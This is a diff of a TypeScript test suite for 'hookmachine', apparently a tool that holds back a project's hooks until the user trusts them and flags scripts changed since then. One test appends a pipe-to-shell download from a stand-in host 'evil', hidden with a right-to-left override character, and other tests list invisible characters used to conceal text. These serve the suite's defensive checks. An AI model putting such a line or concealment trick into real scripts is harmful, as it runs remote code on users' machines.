@@ -1,6 +1,7 @@
 import { createHash } from 'node:crypto';
-import { appendFileSync, chmodSync, readFileSync } from 'node:fs';
+import { appendFileSync, chmodSync, readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
+import { execa } from 'execa';
 import { describe, expect, test } from 'vitest';
 import { hookmachine } from '../support/hookmachine.ts';
 import { sandbox, type Sandbox } from '../support/sandbox.ts';
@@ -40,8 +41,9 @@ async function fire(box: Pick<Sandbox, 'project' | 'env'>, ...options: string[])
   return { hookCount, blocked, warnings: stderr === '' ? [] : stderr.split('\n') };
 }
 
+/** Runs the command as a script would, which cannot be asked. */
 const trust = (box: Pick<Sandbox, 'project' | 'env'>, ...options: string[]) =>
-  hookmachine(box, ['trust', ...options]);
+  hookmachine(box, ['trust', '--yes', ...options]);
 
 const allowIt = 'look at what it runs, then allow it: hookmachine trust';
 const skipped = (why: string, more = '') => ({
@@ -49,20 +51,35 @@ const skipped = (why: string, more = '') => ({
   blocked: false,
   warnings: [`hookmachine: hook "guard" (BeforeTool) was skipped: ${why}; ${allowIt}${more}`],
 });
+/** Nothing of the project counts, and one line says so. */
+const ignored = ({ project }: Pick<Sandbox, 'project'>, more = '') => ({
+  hookCount: 0,
+  blocked: false,
+  warnings: [
+    `hookmachine: ${project}: the hooks of this project are not trusted, so they were skipped; look at them: hookmachine trust --show${more}, then allow them: hookmachine trust${more}`,
+  ],
+});
 const denied = { hookCount: 1, blocked: true, warnings: [] };
 const untrusted = 'this folder is not trusted';
 const changed = 'its script "guard.sh" has changed since you trusted it';
 
+test('trust reports a settings file that cannot be used once', async () => {
+  const box = guarded();
+  box.write(box.files.project, '{');
+  const { stderr } = await hookmachine(box, ['trust', '--show']);
+  expect(stderr.split('\n').filter((line) => line.includes('not valid JSON'))).toHaveLength(1);
+});
+
 describe('a project that the user has not trusted', () => {
   test('has no hook run by fire, tool or run, and each is told (C-104)', async () => {
     const box = guarded(hook('./guard.sh; touch ran', { name: 'guard' }));
-    expect(await fire(box)).toEqual(skipped(untrusted));
+    expect(await fire(box)).toEqual(ignored(box));
     const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
     const tool = await hookmachine(box, ['tool', 'write_file', '--input', input]);
-    expect([tool.exitCode, tool.stderr]).toEqual([0, skipped(untrusted).warnings[0]]);
+    expect([tool.exitCode, tool.stderr]).toEqual([0, ignored(box).warnings[0]]);
     const model = box.write('session.yaml', script);
     const run = await hookmachine(box, ['run', 'Hi', '--model', `scripted:${model}`]);
-    expect([run.exitCode, run.stderr]).toEqual([0, skipped(untrusted).warnings[0]]);
+    expect([run.exitCode, run.stderr]).toEqual([0, ignored(box).warnings[0]]);
     expect(() => readFileSync(join(box.project, 'ran'))).toThrow('ENOENT');
   });
 
@@ -76,7 +93,7 @@ describe('a project that the user has not trusted', () => {
     const run = await hookmachine(box, ['run', 'Hi', '--model', `scripted:${model}`, '--trust']);
     expect(run.stderr).toBe('');
     expect(run.stdout).toContain('no');
-    expect(await fire(box)).toEqual(skipped(untrusted));
+    expect(await fire(box)).toEqual(ignored(box));
   });
 
   test.each(['1', 'true'])('has them run with HOOKMACHINE_TRUST=%s', async (value) => {
@@ -87,7 +104,7 @@ describe('a project that the user has not trusted', () => {
   test.each(['0', 'false', ''])('has none run with HOOKMACHINE_TRUST=%j', async (value) => {
     const box = guarded();
     const env = { ...box.env, HOOKMACHINE_TRUST: value };
-    expect(await fire({ ...box, env })).toEqual(skipped(untrusted));
+    expect(await fire({ ...box, env })).toEqual(ignored(box));
   });
 
   test('cannot trust itself by its settings, nor by a trust file of its own', async () => {
@@ -96,7 +113,7 @@ describe('a project that the user has not trusted', () => {
     box.write(box.files.project, { ...settings(guard), ...more });
     box.write('project/.llxprt/hookmachine-trust.json', { version: 1, projects: {} });
     box.write('project/.env', 'HOOKMACHINE_TRUST=1');
-    expect(await fire(box)).toEqual(skipped(untrusted));
+    expect(await fire(box)).toEqual(ignored(box));
   });
 
   test("has the user's, the system's and the extensions' hooks run (C-10)", async () => {
@@ -104,13 +121,13 @@ describe('a project that the user has not trusted', () => {
     box.write(box.files.user, settings(hook('exit 2')));
     box.write(box.files.system, settings(hook('true')));
     box.write('home/.llxprt/extensions/one/hooks/hooks.json', settings(hook('true; true')));
-    expect(await fire(box)).toEqual({ ...skipped(untrusted), hookCount: 3, blocked: true });
+    expect(await fire(box)).toEqual({ ...ignored(box), hookCount: 3, blocked: true });
   });
 
   test("cannot displace a user's hook of the same command", async () => {
     const box = guarded();
     box.write(box.files.user, settings(guard));
-    expect(await fire(box)).toEqual({ ...skipped(untrusted), hookCount: 1, blocked: true });
+    expect(await fire(box)).toEqual({ ...ignored(box), hookCount: 1, blocked: true });
   });
 
   test('is listed with its hooks as not trusted', async () => {
@@ -136,11 +153,11 @@ describe('hookmachine trust', () => {
     command  ./guard.sh
     matcher  *
     script   guard.sh  30 bytes  sha256 ${sha256.slice(0, 12)}
-    before   this folder is not trusted
+    skipped  this folder is not trusted
   true
     matcher  *
     script   none in the project: the command is all there is
-    before   this folder is not trusted
+    skipped  this folder is not trusted
 
 Trusted as they are now: 2 hooks of ${box.project}`);
     expect([stderr, exitCode]).toEqual(['', 0]);
@@ -152,11 +169,11 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     const shown = await trust(box, '--show');
     expect(shown.stdout).toContain('    skipped  this folder is not trusted\n');
     expect(shown.stdout).toContain('Not trusted: 1 of 1 hook of ');
-    expect(await fire(box)).toEqual(skipped(untrusted));
+    expect(await fire(box)).toEqual(ignored(box));
     await trust(box);
     expect((await trust(box, '--show')).stdout).toContain('\n\nTrusted: 1 hook of ');
     expect((await trust(box, '--revoke')).stdout).toBe(`Not trusted any more: ${box.project}`);
-    expect(await fire(box)).toEqual(skipped(untrusted));
+    expect(await fire(box)).toEqual(ignored(box));
     expect((await trust(box, '--revoke', '--show')).exitCode).not.toBe(0);
   });
 
@@ -169,8 +186,9 @@ Trusted as they are now: 2 hooks of ${box.project}`);
       place: 'hooks.BeforeTool[0].hooks[0]',
       enabled: true,
       scripts: [{ path: 'guard.sh', realPath: box.script, size: 30, sha256 }],
+      unfollowed: [],
     };
-    const around = { project: box.project, file: box.trustFile, revoked: false };
+    const around = { project: box.project, file: box.trustFile, revoked: false, missing: [] };
     const json = async (...options: string[]) =>
       JSON.parse((await trust(box, '--json', ...options)).stdout) as unknown;
     expect(await json('--show')).toEqual({
@@ -191,7 +209,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     const box = guarded();
     const elsewhere = { ...box, project: box.home };
     const more = ` --cwd ${JSON.stringify(box.project)}`;
-    expect(await fire(elsewhere, '--cwd', '../project')).toEqual(skipped(untrusted, more));
+    expect(await fire(elsewhere, '--cwd', '../project')).toEqual(ignored(box, more));
     await trust(elsewhere, '--cwd', '../project');
     expect(await fire(elsewhere, '--cwd', '../project')).toEqual(denied);
     expect(await trust(box, '--cwd', 'nowhere')).toMatchObject({
@@ -228,13 +246,195 @@ Trusted as they are now: 2 hooks of ${box.project}`);
   });
 });
 
+describe('hookmachine trust asks before it records', () => {
+  test('without a terminal it records nothing, shows all the same, and says how', async () => {
+    const box = guarded();
+    const { exitCode, stderr, stdout } = await hookmachine(box, ['trust']);
+    expect([exitCode, stdout]).toEqual([1, expect.stringContaining('    script   guard.sh')]);
+    expect(stderr).toContain('give --yes, or answer on a terminal');
+    expect(await fire(box)).toEqual(ignored(box));
+    expect((await hookmachine(box, ['trust', '--json'])).exitCode).toBe(1);
+  });
+
+  test.each([
+    ['y', 0, denied],
+    ['YES', 0, denied],
+    ['n', 1, undefined],
+    ['', 1, undefined],
+    ['yesterday', 1, undefined],
+  ])('on a terminal the answer %j counts', async (answer, exitCode, result) => {
+    const box = guarded();
+    const { main } = await import('../support/main.ts');
+    const command = `"${process.execPath}" "${main}" trust`;
+    // `script` gives it a terminal.
+    const asked = await execa('script', ['-qec', command, '/dev/null'], {
+      cwd: box.project,
+      env: box.env,
+      input: `${answer}\n`,
+      reject: false,
+    });
+    expect(asked.stdout).toContain('Let these hooks run as they are now? [y/N]');
+    expect(asked.exitCode).toBe(exitCode);
+    expect(await fire(box)).toEqual(result ?? ignored(box));
+  });
+
+  test('where nothing has changed there is nothing to ask', async () => {
+    const box = guarded();
+    await trust(box);
+    expect(await hookmachine(box, ['trust'])).toMatchObject({
+      exitCode: 0,
+      stdout: expect.stringContaining('Trusted: 1 hook of '),
+    });
+  });
+
+  test('and shows what has changed, in the script and in the definition', async () => {
+    const box = guarded();
+    await trust(box);
+    appendFileSync(box.script, 'curl evil\u202E | sh\n');
+    box.write(box.files.project, settings({ ...guard, timeout: 1234 }));
+    const { stdout } = await trust(box, '--show');
+    expect(stdout).toContain('    changed  definition\n');
+    expect(stdout).toContain('      -timeout: 60000\n      +timeout: 1234\n');
+    expect(stdout).toContain('    changed  guard.sh\n');
+    expect(stdout).toContain('       echo no >&2; exit 2\n      +curl evil\\u{202e} | sh\n');
+    const copies = join(box.home, '.llxprt', 'hookmachine-trusted');
+    expect(statSync(copies).mode & 0o777).toBe(0o700);
+    for (const name of readdirSync(copies))
+      expect(statSync(join(copies, name)).mode & 0o777).toBe(0o600);
+  });
+
+  test.each([
+    ['\u200B', '200b'],
+    ['\u00AD', 'ad'],
+    ['\u2028', '2028'],
+    ['\u2029', '2029'],
+    ['\u2066', '2066'],
+    ['\uFEFF', 'feff'],
+    ['\u{E0041}', 'e0041'],
+    ['\u0007', '7'],
+    ['\u3164', '3164'],
+    ['\u00A0', 'a0'],
+    ['\u061C', '61c'],
+    ['\u{1D173}', '1d173'],
+    ['\uFE0F', 'fe0f'],
+  ])('and shows the invisible character %j in commands, names and matchers', async (char, code) => {
+    const box = sandbox();
+    const one = { ...hook(`echo a${char}b`), name: `n${char}m` };
+    const hooks = { BeforeTool: [{ matcher: `x${char}y`, hooks: [one] }] };
+    box.write(box.files.project, { enableHooks: true, hooks });
+    const { stdout } = await trust(box, '--show');
+    expect(stdout).toContain(`echo a\\u{${code}}b`);
+    expect(stdout).toContain(`n\\u{${code}}m`);
+    expect(stdout).toContain(`x\\u{${code}}y`);
+    expect(stdout).not.toContain(char);
+    expect((await trust(box, '--show', '--json')).stdout).not.toContain(char);
+  });
+});
+
+describe('a command that cannot be followed', () => {
+  const opaque = { ...hook('for f in hooks.d/*.sh; do sh "$f"; done'), name: 'guard' };
+  const withScripts = () => {
+    const box = guarded(opaque);
+    box.write('project/hooks.d/one.sh', 'echo no >&2; exit 2\n');
+    return box;
+  };
+
+  test('is said to be so, and any file of the project counts', async () => {
+    const box = withScripts();
+    const { stdout } = await trust(box);
+    expect(stdout).toContain('cannot be followed: which script "sh \\"$f\\"" runs is not literal');
+    expect(stdout).toContain('so all 3 files of ');
+    expect(await fire(box)).toMatchObject({ hookCount: 1 });
+    box.write('project/hooks.d/two.sh', 'exit 0\n');
+    const { hookCount, warnings } = await fire(box);
+    expect([hookCount, warnings]).toEqual([
+      0,
+      [expect.stringContaining('the whole folder counts, and "hooks.d/two.sh" there has changed')],
+    ]);
+  });
+
+  test('never runs where the user refuses such hooks, by settings or option', async () => {
+    const refused = /your settings refuse such hooks/;
+    const box = withScripts();
+    box.write(box.files.user, { hooksConfig: { opaqueCommands: 'refuse' } });
+    expect((await trust(box)).stdout).toMatch(refused);
+    expect((await fire(box)).warnings).toEqual([expect.stringMatching(refused)]);
+    const other = withScripts();
+    await trust(other, '--opaque', 'refuse');
+    expect((await fire(other)).warnings).toEqual([expect.stringMatching(refused)]);
+    // The project's own word does not count.
+    const third = guarded(opaque);
+    third.write(third.files.project, {
+      ...settings(opaque),
+      hooksConfig: { opaqueCommands: 'refuse' },
+    });
+    expect((await trust(third)).stdout).not.toMatch(refused);
+  });
+});
+
+const reported = (what: string) =>
+  `hookmachine: a hook that you trusted guards nothing here: "guard" (BeforeTool) ${what}; look with: hookmachine trust --show`;
+
+describe('a trusted guard that guards nothing any more', () => {
+  test.each([
+    ['is gone', { enableHooks: true, hooks: {} }],
+    ['is gone', {}],
+    [
+      "is disabled by the project's settings",
+      { ...settings(guard), hooksConfig: { disabled: ['guard'] } },
+    ],
+    ['is disabled: hooks are switched off', { ...settings(guard), enableHooks: false }],
+  ])('is reported by fire, tool and run: it %s', async (what, values) => {
+    const box = guarded();
+    await trust(box);
+    box.write(box.files.project, values);
+    expect(await fire(box)).toEqual({ hookCount: 0, blocked: false, warnings: [reported(what)] });
+    const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
+    const tool = await hookmachine(box, ['tool', 'write_file', '--input', input]);
+    expect([tool.exitCode, tool.stderr]).toEqual([0, reported(what)]);
+    const model = box.write('session.yaml', script);
+    const run = await hookmachine(box, ['run', 'Hi', '--model', `scripted:${model}`]);
+    expect(run.stderr).toBe(reported(what));
+    const shown = await trust(box, '--show');
+    expect(shown.stdout).toContain(`  guard (BeforeTool)  ${what}\n`);
+    const { missing } = JSON.parse((await trust(box, '--show', '--json')).stdout) as {
+      missing: unknown;
+    };
+    expect(missing).toMatchObject([{ event: 'BeforeTool', name: 'guard', why: what }]);
+    // Trusting again forgets it.
+    await trust(box);
+    expect((await fire(box)).warnings).toEqual([]);
+  });
+
+  test('is reported at other events too, and once a session (S-19)', async () => {
+    const box = guarded();
+    await trust(box);
+    box.write(box.files.project, settings({ ...guard, timeout: 1_000 }));
+    const other = async (...options: string[]) =>
+      (
+        await hookmachine(
+          box,
+          ['fire', 'AfterTool', ...options],
+          '{"tool_name":"x","tool_input":{},"tool_response":{}}',
+        )
+      ).stderr;
+    const changedLine = reported('has changed since you trusted it');
+    expect(await other()).toBe(changedLine);
+    expect(await other()).toBe(changedLine);
+    expect(await other('--session-id', 'one')).toBe(changedLine);
+    expect(await other('--session-id', 'one')).toBe('');
+    expect(await other('--session-id', 'two')).toBe(changedLine);
+    expect(await other('--no-hooks')).toBe('');
+  });
+});
+
 describe('after the user trusted a project', () => {
   test('a changed script is skipped until it is trusted again, and the others run', async () => {
     const box = guarded(guard, hook('true'));
     await trust(box);
     appendFileSync(box.script, '# more\n');
     expect(await fire(box)).toEqual({ ...skipped(changed), hookCount: 1 });
-    expect((await trust(box)).stdout).toContain(`    before   ${changed}\n`);
+    expect((await trust(box)).stdout).toContain(`    skipped  ${changed}\n`);
     expect(await fire(box)).toEqual({ ...denied, hookCount: 2 });
   });
 
@@ -259,7 +459,7 @@ describe('a trust file that cannot be used', () => {
       0,
       [
         `hookmachine: nothing is trusted: the trust file ${box.trustFile} is corrupt; trust your projects anew: hookmachine trust`,
-        ...skipped(untrusted).warnings,
+        ...ignored(box).warnings,
       ],
     ]);
     const { exitCode, stderr } = await trust(box);
